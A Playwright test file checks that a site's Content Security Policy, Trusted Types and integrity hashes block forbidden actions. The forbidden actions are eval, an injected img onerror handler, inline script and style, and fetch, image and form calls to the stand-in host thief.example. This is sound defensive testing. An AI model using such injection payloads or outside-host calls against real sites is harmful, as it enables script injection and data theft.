import { expect, type Page } from '@playwright/test'
import { SCRIPTS } from '../support/start'
import { test } from '../support/test'
import { started, visitUnstarted } from '../support/visit'

/** Waits until the browser has told of it since there were `before` others. */
const told = (violations: string[], words: RegExp, before = 0) =>
  expect.poll(() => violations.slice(before).join('\n')).toMatch(words)

/** Ends what a test has caused, so that it does not fail for it. */
async function forgive(page: Page, violations: string[]) {
  await page.close()
  violations.length = 0
}

const hasRun = (page: Page) => page.evaluate(() => 'hasRun' in window)

/** What a page tries, and what Chromium says of it. */
const refusedThings: [what: string, words: RegExp, attempt: () => unknown][] = [
  [
    'text as code',
    /TrustedScript|unsafe-eval/,
    // biome-ignore lint/security/noGlobalEval: it is what must fail
    () => window.eval('window.hasRun = true'),
  ],
  [
    'text as markup',
    /TrustedHTML/,
    () =>
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hasRun = true">'),
  ],
  [
    'a script of another address of the site',
    /TrustedScriptURL/,
    () => {
      document.createElement('script').src = '/robots.txt'
    },
  ],
  [
    'a second policy of Trusted Types',
    /trusted-types/,
    () =>
      window.trustedTypes?.createPolicy('another', {
        createHTML: (text) => text,
        createScriptURL: (text) => text,
      }),
  ],
  ['a call to another host', /connect-src/, () => fetch('https://thief.example/')],
  [
    'a picture of another host',
    /img-src/,
    () => {
      new Image().src = 'https://thief.example/x.png'
    },
  ],
  [
    'a form that leads elsewhere',
    /form-action/,
    () => {
      const form = document.createElement('form')
      form.action = 'https://thief.example/'
      document.body.append(form)
      form.submit()
    },
  ],
  [
    'the camera',
    /[Pp]ermissions policy/,
    () => navigator.mediaDevices.getUserMedia({ video: true }),
  ],
]

test('what no page of the site does is refused, told, and fails a test', async ({
  page,
  violations,
}) => {
  await visitUnstarted(page, '/about')
  await started(page)
  for (const [what, words, attempt] of refusedThings) {
    await test.step(what, async () => {
      const before = violations.length
      // In a task of the page's own: what a test evaluates may do more.
      await page.evaluate(`setTimeout(${attempt})`)
      await told(violations, words, before)
      expect(await hasRun(page)).toBe(false)
    })
  }
  await forgive(page, violations)
})

test('what somebody wrote into a page is not run and not shown', async ({ page, violations }) => {
  await page.route('**/about', async (route) => {
    const response = await route.fetch()
    const injected =
      '<script>hasRun = true</script><img src="" onerror="hasRun = true"><b id="b" style="color: red">'
    await route.fulfill({
      response,
      body: (await response.text()).replace('<main', `${injected}$&`),
    })
  })
  await visitUnstarted(page, '/about')
  for (const words of [/inline script/, /event handler/, /inline style/]) {
    await told(violations, words)
  }
  expect(await hasRun(page)).toBe(false)
  await expect(page.locator('#b')).not.toHaveCSS('color', 'rgb(255, 0, 0)')
  await forgive(page, violations)
})

test('a script without a hash, or with another content, is not run', async ({
  page,
  violations,
}) => {
  const integrity = / integrity="[^"]*"(?=[^>]* type="waiting")/
  for (const [path, instead, words] of [
    ['/about', ` integrity="sha256-${'A'.repeat(43)}="`, /'integrity' attribute/],
    ['/limits', '', /^integrity: /m],
  ] as const) {
    await page.route(`**${path}`, async (route) => {
      const response = await route.fetch()
      const html = await response.text()
      await route.fulfill({ response, body: html.replace(integrity, instead) })
    })
    const before = violations.length
    await visitUnstarted(page, path)
    await page.evaluate(() => dispatchEvent(new Event('wheel')))
    await told(violations, words, before)
  }
  await forgive(page, violations)
})

test('what is loaded later has a hash: other content does not run', async ({
  page,
  violations,
}) => {
  await visitUnstarted(page, '/')
  await started(page)
  const body = 'window.hasRun = true'
  await page.route(SCRIPTS, (route) => route.fulfill({ body, contentType: 'text/javascript' }))
  await page.getByRole('button', { name: 'Steal this token' }).click()
  await told(violations, /'integrity' attribute/)
  expect(await hasRun(page)).toBe(false)
  await forgive(page, violations)
})
